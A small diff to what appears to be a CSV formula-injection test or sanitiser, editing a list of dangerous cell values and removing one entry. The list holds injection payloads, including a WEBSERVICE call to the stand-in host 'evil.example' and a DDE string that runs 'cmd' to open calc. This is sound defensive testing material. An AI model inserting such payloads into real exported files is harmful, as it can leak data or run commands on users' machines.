@@ -21,7 +21,6 @@ const FORMULAS = [
   '=WEBSERVICE("http://evil.example/")',
   '-2+3+cmd',
   "+1 *cmd|' /C calc'!A0",
-  '-1\n*A1',
 ];
 /** Texts that begin a field in some dialect, or may come before its text. */
 const BEGINNINGS = [
